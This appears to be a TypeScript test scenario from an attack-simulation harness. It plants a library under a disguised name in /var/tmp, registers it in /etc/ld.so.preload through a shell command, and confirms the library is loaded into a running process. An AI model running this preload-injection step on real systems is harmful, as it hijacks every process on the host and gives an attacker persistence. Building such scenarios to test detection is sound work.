import { readFileSync } from "node:fs";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

const LIBRARY = "/var/tmp/libnss_cache.so.2";

export const attack: Attack = {
  async act(site) {
    await site.copyIn(site.images.injectedLibrary, LIBRARY, 0o644);
    const script = `echo ${LIBRARY} >/etc/ld.so.preload; exec /usr/bin/sleep 3600`;
    const pid = await site.exec(["/usr/bin/sh", "-c", script]);
    await until("the library", () => /r-xp .*libnss_cache/.test(readFileSync(`/proc/${pid}/maps`, "utf8")));
    return pid;
  },
};
